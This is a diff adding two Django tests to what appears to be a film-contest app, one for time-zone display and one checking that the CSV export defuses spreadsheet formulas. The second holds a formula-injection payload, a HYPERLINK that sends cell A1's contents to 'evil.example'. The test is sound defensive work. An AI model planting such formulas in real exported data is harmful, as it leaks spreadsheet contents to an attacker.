@@ -271,3 +271,58 @@ def test_a_broken_subtitle_file_is_refused_at_upload_with_the_line_to_fix(client
     assert html.count(escape(message)) == 1
     assert "Gardé." in html
     assert not Entry.objects.filter(team=team).exists()
+
+
+def test_every_page_and_the_export_show_times_in_the_contests_time_zone(client, time_machine):
+    utc = ZoneInfo("UTC")
+    entry = ready_entry(
+        title="Sans voix",
+        team__contest__time_zone="America/New_York",
+        team__contest__opens_at=datetime(2030, 3, 1, 17, 0, tzinfo=utc),
+        team__contest__closes_at=datetime(2030, 3, 15, 12, 0, tzinfo=utc),
+        team__deadline_extended_to=datetime(2030, 3, 16, 3, 30, tzinfo=utc),
+    )
+    member = TeamMemberFactory(team=entry.team).user
+    organiser = ContestRoleFactory(contest=entry.contest).user
+    slug = entry.contest.slug
+    time_machine.move_to(datetime(2030, 3, 10, 14, 5, tzinfo=utc), tick=False)
+    client.force_login(member)
+    client.post(reverse("entry_submit", kwargs={"contest_slug": slug, "public_id": entry.public_id}))
+    team_page = client.get(reverse("team_dashboard", kwargs={"contest_slug": slug})).content.decode()
+    entry_page = client.get(
+        reverse("entry_detail", kwargs={"contest_slug": slug, "public_id": entry.public_id})
+    ).content.decode()
+    client.force_login(organiser)
+    dashboard = client.get(reverse("organiser_dashboard", kwargs={"contest_slug": slug})).content.decode()
+    organiser_entry = client.get(
+        reverse("organiser_entry", kwargs={"contest_slug": slug, "public_id": entry.public_id})
+    ).content.decode()
+    rows = list(
+        csv.DictReader(
+            io.StringIO(
+                client.get(reverse("organiser_entries_csv", kwargs={"contest_slug": slug})).content.decode("utf-8-sig")
+            )
+        )
+    )
+
+    assert "Submissions close on March 15, 2030, 11:30 p.m.." in team_page  # the team's extension, New York time
+    assert "March 10, 2030, 10:05 a.m." in entry_page  # the submission in the history
+    assert "Submissions from March 1, 2030, noon to March 15, 2030, 8 a.m. (America/New_York)." in dashboard
+    assert "<td>March 15, 2030, 11:30 p.m.</td>" in dashboard
+    assert "March 10, 2030, 10:05 a.m." in organiser_entry
+    assert [row["submitted_at"] for row in rows] == ["2030-03-10T10:05:00-04:00"]
+
+
+def test_the_csv_export_defuses_text_that_a_spreadsheet_would_run(client):
+    entry = ready_entry(title='=HYPERLINK("http://evil.example/?"&A1,"Sans voix")', synopsis_fr="@SUM(1+1)")
+    entry.team.name = "+Team"
+    entry.team.save()
+    client.force_login(ContestRoleFactory(contest=entry.contest).user)
+    response = client.get(reverse("organiser_entries_csv", kwargs={"contest_slug": entry.contest.slug}))
+    [row] = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+    assert (row["title"], row["team"], row["synopsis_fr"], row["runtime_s"]) == (
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Sans voix")',
+        "'+Team",
+        "'@SUM(1+1)",
+        "",
+    )
